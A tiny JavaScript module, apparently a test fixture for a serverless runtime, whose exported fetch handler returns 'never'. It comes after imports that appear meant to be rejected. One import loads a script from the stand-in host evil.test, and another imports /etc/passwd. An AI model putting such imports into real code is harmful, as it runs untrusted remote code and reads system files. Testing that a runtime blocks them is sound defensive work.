import "https://evil.test/x.js";
import "data:text/javascript,1";
import "node:fs";
import "/etc/passwd";
export default { fetch: () => new Response("never") };
